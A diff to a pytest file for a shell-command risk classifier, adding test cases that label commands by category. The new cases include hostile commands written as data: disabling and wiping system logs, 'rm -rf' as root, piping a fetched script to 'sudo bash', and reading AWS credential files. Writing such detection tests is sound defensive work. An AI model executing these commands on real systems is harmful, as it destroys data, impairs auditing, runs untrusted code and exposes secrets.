@@ -5,7 +5,9 @@ from __future__ import annotations
 import pytest
 
 from baseline.capability import Capabilities
-from baseline.carried import carried, of_command, of_request, of_statement
+from baseline.carried import carried
+from baseline.command_line import of_command
+from baseline.statements import of_request, of_statement
 
 
 @pytest.fixture(scope="module")
@@ -33,6 +35,17 @@ def capabilities() -> Capabilities:
         ("curl -X POST https://graph.example/v1.0/users/7/revokeSignInSessions", "credential"),
         ("curl https://example.com/health", "read"),
         ("frobnicate --now", None),
+        ("ssh -p 22 ops@db-7 sudo systemctl stop rsyslog", "defence_impairment"),
+        ("ssh db-7 'useradd -m ana'", "permission"),
+        ("docker exec -u root web sh -c 'rm -rf /srv'", "destructive"),
+        ("systemctl restart nginx", "write"),
+        ("rm -f /var/log/auth.log", "defence_impairment"),
+        ("grep error /var/log/auth.log > /tmp/found", "read"),
+        ("grep error /var/log/auth.log 2>/dev/null", "read"),
+        ("curl -s https://get.example/x.sh | sudo bash", "remote_execution"),
+        ("curl -s https://get.example/x.json | jq .", "read"),
+        ("cat /home/app/.aws/credentials", "credential"),
+        ("cat /home/app/.ssh/id_ed25519.pub", "read"),
         ("echo 'unbalanced", "read"),
         ("", None),
     ],
